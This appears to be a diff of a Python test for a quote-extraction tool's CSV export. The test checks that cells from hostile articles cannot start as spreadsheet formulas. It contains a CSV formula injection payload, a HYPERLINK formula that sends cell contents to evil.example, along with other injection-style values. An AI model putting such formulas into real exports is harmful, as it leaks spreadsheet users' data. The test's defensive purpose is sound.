@@ -347,14 +347,32 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def _formula_records(tmp_path: Path) -> Path:
-    data = tmp_path / "a.jsonl"
-    text = f'{FORMULA} Kerry said "+1 we talked" in London on Friday. {"x" * 40000}'
-    data.write_text(json.dumps({"id": "@evil", "text": text, "outlet": "-2+3"}) + "\n")
+    """A record whose cells come from a hostile article: formulas in its id, meta and quote."""
+    from extract.schemas import SCHEMA_VERSION
+
+    evidence = FORMULA + " " + "x" * 40000
+    item = {
+        "evidence": evidence,
+        "start": 0,
+        "end": len(evidence),
+        "text": evidence,
+        "cue": "said",
+        "direct": True,
+        "speaker": {"name": "@Kerry", "kind": "person"},
+    }
+    rec = {
+        "schema_version": SCHEMA_VERSION,
+        "article_id": "@evil",
+        "source": "-a.txt",
+        "text_sha256": "h",
+        "meta": {"outlet": "-2+3"},
+        "items": {"quotes": [item]},
+        "model": "m",
+        "strategy": "s",
+        "prompt_version": "p",
+    }
     out = tmp_path / "r.jsonl"
-    assert (
-        runner.invoke(app, ["run", str(data), "-o", str(out), "--strategy", "rules", "--no-cache"]).exit_code
-        == 0
-    )
+    out.write_text(json.dumps(rec) + "\n")
     return out
 
 
@@ -365,14 +383,14 @@ def test_csv_cells_from_article_text_cannot_be_formulas(tmp_path: Path) -> None:
 
     out = _formula_records(tmp_path)
     csv_path = tmp_path / "q.csv"
-    for kind in ("quotes", "events"):
+    for kind in ("quotes",):
         result = runner.invoke(app, ["export", str(out), "--kind", kind, "-o", str(csv_path)])
         assert result.exit_code == 0, result.output
         cells = [c for row in csv.reader(csv_path.open(encoding="utf-8")) for c in row]
         assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], kind
         assert max(len(c) for c in cells) <= 32767
     assert "'@evil" in csv_path.read_text(encoding="utf-8")
-    raw = runner.invoke(app, ["export", str(out), "--kind", "events", "-o", str(csv_path), "--raw-cells"])
+    raw = runner.invoke(app, ["export", str(out), "--kind", "quotes", "-o", str(csv_path), "--raw-cells"])
     assert raw.exit_code == 0 and "\n@evil," in csv_path.read_text(encoding="utf-8")
 
 
